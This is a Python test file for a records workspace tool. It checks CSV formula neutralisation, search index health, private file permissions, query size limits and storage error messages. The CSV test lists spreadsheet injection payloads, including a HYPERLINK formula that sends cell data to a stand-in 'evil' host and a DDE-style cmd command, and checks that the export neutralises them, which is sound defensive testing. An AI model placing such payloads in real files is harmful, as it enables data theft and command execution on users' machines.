"""Issue #16 items 8, 10, 12, 15 and 16: CSV formulas, search that silently misses records,
world-readable secrets, unbounded queries and raw tracebacks from damaged storage."""

from __future__ import annotations

import csv
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from core.workspace import Workspace

REPO = Path(__file__).resolve().parent.parent


def _cli(
    *args: str, env: dict[str, str] | None = None, timeout: float = 300
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "main.py", *args],
        cwd=REPO,
        capture_output=True,
        text=True,
        env={**os.environ, **(env or {})},
        timeout=timeout,
    )


# -- item 8: CSV formula injection -----------------------------------------------------------
def test_graph_csv_export_neutralises_formula_cells(tmp_path: Path) -> None:
    from graph.export import export_graph
    from graph.model import GraphEdge, GraphNode, GraphResult

    evil = [
        '=HYPERLINK("http://evil/?"&A1,"x")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|x",
        "@SUM(1+1)",
        "\t=1+1",
        "＝1+1",
    ]
    nodes = {
        f"n{i}": GraphNode(f"n{i}", "person", text, aliases=(text,)) for i, text in enumerate(evil)
    }
    nodes["=cmd"] = GraphNode("=cmd", "@type", "ok")
    edges = [GraphEdge("=cmd", "n1", "-called", count=1, record_uids=["=1+2"])]
    graph = GraphResult(nodes=nodes, edges=edges)
    written = export_graph(graph, tmp_path / "g.csv")
    cells = [
        c for path in written for row in csv.reader(path.open(encoding="utf-8-sig")) for c in row
    ]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "＝")) for c in cells), cells
    labels = [row[1] for row in csv.reader(written[0].open(encoding="utf-8-sig"))][1:]
    assert labels[:-1] == ["'" + t for t in evil]  # shown as the text it was, never run


def test_numbers_stay_numbers() -> None:
    from core.csvsafe import neutralise

    assert [neutralise(v) for v in ("-3.5", "+86", "1e-3", 7, None, "plain")] == [
        "-3.5",
        "+86",
        "1e-3",
        7,
        None,
        "plain",
    ]
    assert neutralise("-3.5+A1") == "'-3.5+A1"


# -- item 10: search that silently misses records ----------------------------------------------
def _generate(tmp_path: Path, source: str, rows: int) -> list[Path]:
    from plugins.registry import discover

    plugin = discover([]).get(source)
    out = tmp_path / f"gen-{source}"
    out.mkdir()
    return plugin.generate(out, rows, seed=7)


def test_two_ingests_at_once_lose_nothing_from_the_index(tmp_path: Path) -> None:
    ws = Workspace.init(tmp_path / "ws")
    root = str(ws.root)
    ws.close()
    jobs = []
    for source in ("hotel", "population"):
        files = _generate(tmp_path, source, 4000)
        jobs.append(
            subprocess.Popen(
                [
                    sys.executable,
                    "main.py",
                    "ingest",
                    "-w",
                    root,
                    "-s",
                    source,
                    *map(str, files),
                    "--batch-size",
                    "500",
                ],
                cwd=REPO,
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            )
        )
    for job in jobs:
        _out, err = job.communicate(timeout=600)
        assert job.returncode == 0, err
    health = _cli("search-health", "-w", root, "--json")
    data = json.loads(health.stdout)
    assert data["documents"] == data["store_records"] > 7000, data
    assert data["status"] == "green", data


def test_a_second_ingest_is_refused_while_one_holds_the_workspace(
    workspace: Workspace, tmp_path: Path
) -> None:
    from core.ingest import IngestBusyError, Ingestor, workspace_write_lock
    from plugins.registry import discover

    files = _generate(tmp_path, "hotel", 50)
    plugin = discover([]).get("hotel")
    with (
        workspace_write_lock(workspace, "a long ingest"),
        pytest.raises(IngestBusyError, match=r"another ingest or reindex is running \(pid"),
    ):
        Ingestor(workspace, lock_wait=0.5).ingest_file(plugin, files[0])
    assert workspace.store.count() == 0
    report = Ingestor(workspace, lock_wait=0.5).ingest_file(plugin, files[0])
    assert report.status == "done" and workspace.store.count() == 50


def test_health_turns_red_when_the_index_lost_its_meta_file(
    workspace: Workspace, tmp_path: Path
) -> None:
    from core.ingest import Ingestor
    from plugins.registry import discover
    from search.backend import open_backend
    from search.model import SearchRequest

    plugin = discover([]).get("hotel")
    Ingestor(workspace).ingest_file(plugin, _generate(tmp_path, "hotel", 300)[0])
    backend = open_backend(workspace)
    assert backend.health().status == "green"
    backend.close()
    current = (workspace.search_dir / "tantivy" / "CURRENT").read_text().strip()
    (workspace.search_dir / "tantivy" / current / "meta.json").unlink()
    backend = open_backend(workspace)
    health = backend.health()
    assert health.status == "red" and "300 records of the store are missing" in health.message
    result = backend.search(SearchRequest(""))
    assert any("stale" in w and "reindex" in w for w in result.warnings)
    backend.close()
    out = _cli("search-health", "-w", str(workspace.root))
    assert out.returncode == 1 and "reindex" in out.stdout
    assert _cli("reindex", "-w", str(workspace.root)).returncode == 0
    again = open_backend(workspace)
    assert again.health().status == "green" and again.search(SearchRequest("")).total == 300
    again.close()


def test_health_is_yellow_for_a_few_missing_records(workspace: Workspace, tmp_path: Path) -> None:
    from core.ingest import Ingestor
    from plugins.registry import discover
    from search.backend import open_backend

    plugin = discover([]).get("hotel")
    Ingestor(workspace).ingest_file(plugin, _generate(tmp_path, "hotel", 300)[0])
    backend = open_backend(workspace)
    uids = [r.uid for r in workspace.store.iter_records()][:3]
    backend.delete(uids)
    backend.flush()
    health = backend.health()
    assert health.status == "yellow" and "3 records" in health.message, health
    backend.close()


# -- item 12: secrets on disk --------------------------------------------------------------
def test_workspace_files_are_private(tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        ws = Workspace.init(tmp_path / "ws")
        ws.audit.append("tester", "search", {})
    finally:
        os.umask(old)
    mode = lambda p: stat.S_IMODE(p.stat().st_mode)  # noqa: E731
    assert mode(ws.root) == 0o700
    for sub in ("search", "faces", "rejects", "plugins", "data"):
        assert mode(ws.root / sub) == 0o700, sub
    for name in ("superbrain.toml", "store.sqlite", "audit.jsonl"):
        assert mode(ws.root / name) == 0o600, name
    ws.close()


def test_an_old_world_readable_config_is_made_private_on_open(tmp_path: Path) -> None:
    ws = Workspace.init(tmp_path / "ws")
    config = ws.root / "superbrain.toml"
    for path, mode in (
        (config, 0o644),
        (ws.store_path, 0o644),
        (ws.faces_dir, 0o755),
        (ws.root, 0o755),
    ):
        os.chmod(path, mode)
    Workspace.open(ws.root)
    assert stat.S_IMODE(config.stat().st_mode) == 0o600
    assert stat.S_IMODE(ws.store_path.stat().st_mode) == 0o600
    assert stat.S_IMODE(ws.faces_dir.stat().st_mode) == 0o700  # the face galleries
    assert stat.S_IMODE(ws.root.stat().st_mode) == 0o700


# -- item 15: unbounded queries --------------------------------------------------------------
@pytest.mark.parametrize(
    "query",
    [
        "a" * 10_000,  # size
        "*a*" * 3333,  # the wildcard query
        " ".join(f"*{c}*" for c in "abcdefghij"),  # too many wildcard terms
        "*a*b*c*d*e*",  # one term with too many wildcards
        " OR ".join(f"w{i}" for i in range(300)),  # too many clauses
    ],
)
def test_oversized_queries_are_refused_quickly_with_a_clear_message(
    workspace: Workspace, query: str
) -> None:
    import time

    from search.backend import open_backend
    from search.errors import QueryLimitError
    from search.model import SearchRequest

    backend = open_backend(workspace)
    started = time.monotonic()
    with pytest.raises(QueryLimitError, match=r"limit|too complex|more than"):
        backend.search(SearchRequest(query))
    assert time.monotonic() - started < 2
    backend.close()


def test_query_limits_through_the_cli(workspace: Workspace) -> None:
    out = _cli("search", "-w", str(workspace.root), "*a*" * 3333)
    assert out.returncode != 0 and "Traceback" not in out.stderr
    assert "limit is 1,000" in out.stderr + out.stdout


# -- item 16: damaged or full storage --------------------------------------------------------
def test_damaged_store_gives_one_line_with_a_recovery_hint(workspace: Workspace) -> None:
    workspace.close()
    (workspace.root / "store.sqlite").write_bytes(b"this is not a database" * 200)
    out = _cli("search-health", "-w", str(workspace.root))
    text = out.stdout + out.stderr
    assert out.returncode != 0 and "Traceback" not in text
    assert "store.sqlite" in text and "restore it from a backup" in text


def test_full_disk_during_ingest_gives_a_clear_error(
    workspace: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Below the free-space floor an ingest is refused before it writes anything."""
    from core import audit
    from core.audit import AuditError
    from core.ingest import Ingestor
    from plugins.registry import discover

    monkeypatch.setattr(audit, "MIN_FREE_BYTES", 1 << 62)  # "the disk is full"
    plugin = discover([]).get("hotel")
    with pytest.raises(AuditError, match=r"bytes free on its disk.*free disk space"):
        Ingestor(workspace).ingest_file(plugin, _generate(tmp_path, "hotel", 20)[0])
    assert workspace.store.count() == 0


def test_storage_problem_messages() -> None:
    import errno
    import sqlite3

    from core.store import storage_problem

    full = storage_problem(Path("/ws/search"), OSError(errno.ENOSPC, "No space left on device"))
    assert "disk is full" in full and "/ws/search" in full
    bad = storage_problem(Path("/ws/store.sqlite"), sqlite3.DatabaseError("file is not a database"))
    assert "restore it from a backup" in bad


def test_a_full_disk_under_the_search_index_is_a_clear_error(tmp_path: Path) -> None:
    """tantivy's 'No space left on device' at commit: the ingest keeps every record in the
    store, marks the index stale with the reason, and no traceback reaches the user."""
    ws = Workspace.init(tmp_path / "ws")
    mnt = ws.search_dir
    made = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=192k", "tmpfs", str(mnt)],
        capture_output=True,
        text=True,
    )
    if made.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs to fill (needs root): {made.stderr.strip()}")
    try:
        files = _generate(tmp_path, "hotel", 3000)
        out = _cli("ingest", "-w", str(ws.root), "-s", "hotel", str(files[0]))
        text = out.stdout + out.stderr
        assert "Traceback" not in text, text
        assert "done, 3,000 records" in out.stdout and ws.store.count() == 3000
        assert "disk is full" in out.stderr  # the search stage says why it stopped
        health = _cli("search-health", "-w", str(ws.root))
        assert health.returncode == 1 and "missing from the index" in health.stdout
        assert "reindex" in health.stdout
    finally:
        ws.close()
        subprocess.run(["umount", str(mnt)], check=False)
